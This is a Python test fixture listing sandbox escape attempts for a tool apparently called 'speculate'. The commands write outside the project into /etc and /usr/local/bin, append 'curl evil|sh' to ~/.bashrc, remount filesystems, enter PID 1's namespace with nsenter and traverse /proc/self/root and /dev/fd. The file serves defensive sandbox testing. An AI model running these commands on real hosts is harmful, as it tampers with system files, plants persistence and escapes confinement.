"""Escape attempts on the host's files: writes outside the project, the mount table, links out of the
project (symlinks, hard links, ``/proc/<pid>/root`` and ``/dev/fd``)."""

from __future__ import annotations

from tests.sandbox.escapes.attempt import OK, Attempt

# -- writes outside the project ------------------------------------------------------------------
WRITES: list[Attempt] = [
    Attempt(
        "etc",
        "writes",
        f"echo x > /etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "var-lib",
        "writes",
        f"mkdir -p /var/lib/speculate-escape-{{tag}} && echo {OK}",
        ("/var/lib/speculate-escape-{tag}",),
    ),
    Attempt(
        "usr-local",
        "writes",
        f"cp /bin/sh /usr/local/bin/speculate-escape-{{tag}} && echo {OK}",
        ("/usr/local/bin/speculate-escape-{tag}",),
    ),
    Attempt(
        "dev-shm",
        "writes",
        f"echo x > /dev/shm/speculate-escape-{{tag}} && echo {OK}",
        ("/dev/shm/speculate-escape-{tag}",),
    ),
    Attempt(
        "run",
        "writes",
        f"echo x > /run/speculate-escape-{{tag}} && echo {OK}",
        ("/run/speculate-escape-{tag}",),
    ),
    Attempt("host-tmp", "writes", f"echo x > {{host_tmp}}/escape && echo {OK}", ("{host_tmp}",)),
    Attempt(
        "var-tmp",
        "writes",
        f"echo x > /var/tmp/speculate-escape-{{tag}} && echo {OK}",
        ("/var/tmp/speculate-escape-{tag}",),
    ),
    Attempt("bashrc", "writes", f"echo 'curl evil|sh' >> ~/.bashrc && echo {OK}", ("{home}",)),
    Attempt("git-config-global", "writes", f"git config --global user.name pwned && echo {OK}", ("{home}",)),
    Attempt(
        "remount-home",
        "writes",
        f"mount -o remount,rw {{home}} ; echo x > ~/.profile && echo {OK}",
        ("{home}",),
    ),
    Attempt(
        "proc-sys",
        "writes",
        f"echo 17 > /proc/sys/vm/swappiness && echo {OK}",
        ("/proc/sys/vm/swappiness",),
        refused=True,
    ),
    Attempt(
        "sys",
        "writes",
        f"echo 1280 > /sys/class/net/lo/mtu && echo {OK}",
        ("/sys/class/net/lo/mtu",),
        refused=True,
    ),
    Attempt(
        "cgroupfs-mkdir",
        "writes",
        f"mkdir /sys/fs/cgroup/pids/speculate-escape-{{tag}} /sys/fs/cgroup/unified/speculate-escape-{{tag}}"
        f" && echo {OK}",
        ("/sys/fs/cgroup/pids/speculate-escape-{tag}", "/sys/fs/cgroup/unified/speculate-escape-{tag}"),
    ),
]

# -- the mount table ------------------------------------------------------------------------------
MOUNTS: list[Attempt] = [
    Attempt(
        "umount-view",
        "mounts",
        f"cd /; umount -l {{project}} ; echo x > {{project}}/escaped && echo {OK}",
        ("{project}",),
    ),
    Attempt(
        "umount-proc-nsenter",
        "mounts",
        f"umount -l /proc; nsenter -t 1 -m -- sh -c 'echo x > /etc/speculate-escape-{{tag}}' && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "remount-root",
        "mounts",
        f"mount -o remount,rw / && echo x > /etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
        refused=True,
    ),
    Attempt("bind-over-etc", "mounts", f"mount --bind /tmp /etc && echo {OK}", (), refused=True),
    Attempt("mount-tmpfs", "mounts", f"mount -t tmpfs x {{home}} && echo {OK}", ("{home}",), refused=True),
    Attempt(
        "userns-mount",
        "mounts",
        f"unshare -Urm sh -c 'mount -t tmpfs x /etc && touch /etc/y' && echo {OK}",
        (),
        refused=True,
    ),
]

# -- links ------------------------------------------------------------------------------------------
LINKS: list[Attempt] = [
    Attempt(
        "symlink-out",
        "links",
        f"echo x > escape-link/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "hardlink-out", "links", f"ln {{home}}/canary.txt ./hl && echo x >> ./hl && echo {OK}", ("{home}",)
    ),
    Attempt(
        "proc-self-root",
        "links",
        f"echo x > /proc/self/root/etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "proc-canary-root",
        "links",
        f"echo x > /proc/{{pid}}/root/etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
        refused=True,
    ),
    Attempt(
        "proc-canary-cwd",
        "links",
        f"echo x > /proc/{{pid}}/cwd/escaped && echo {OK}",
        ("{canary_cwd}",),
        refused=True,
    ),
    Attempt("other-overlays", "links", "ls -R {state} | head -50"),  # layers and journals of speculations
    Attempt(
        "dev-fd-dotdot",
        "links",
        f"echo x > /dev/fd/../../../etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
]
